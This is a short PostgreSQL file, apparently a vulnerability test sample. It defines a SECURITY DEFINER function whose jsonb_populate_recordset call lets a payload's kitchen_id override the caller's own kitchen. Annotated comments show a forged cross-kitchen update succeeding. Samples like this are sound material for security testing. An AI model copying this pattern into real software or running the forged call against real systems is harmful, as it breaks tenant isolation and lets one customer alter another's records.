-- The rows of the payload are matched by number, and the kitchen is taken from the payload if it is there.
-- about: set_remarks
-- as: hf_catering_app
-- exploit: SET catering.kitchen_id = '1';
-- exploit: SELECT 'changed ' || api.set_remarks('[{"kitchen_id": 2, "order_no": 7, "remark": "forged"}]');
-- shows: changed 1
CREATE FUNCTION api.set_remarks(p_rows jsonb) RETURNS integer
LANGUAGE plpgsql SECURITY DEFINER SET search_path = store, pg_temp AS $$
DECLARE
  v_count integer;
BEGIN
  UPDATE orders o SET remark = r.remark
    FROM jsonb_populate_recordset(
           (SELECT k FROM (SELECT inner_api.kitchen() AS kitchen_id) x,
                   LATERAL jsonb_populate_record(NULL::orders, to_jsonb(x)) k), p_rows) r
   WHERE o.kitchen_id = r.kitchen_id AND o.order_no = r.order_no;
  GET DIAGNOSTICS v_count = ROW_COUNT;
  RETURN v_count;
END
$$;
GRANT EXECUTE ON FUNCTION api.set_remarks(jsonb) TO hf_catering_app;
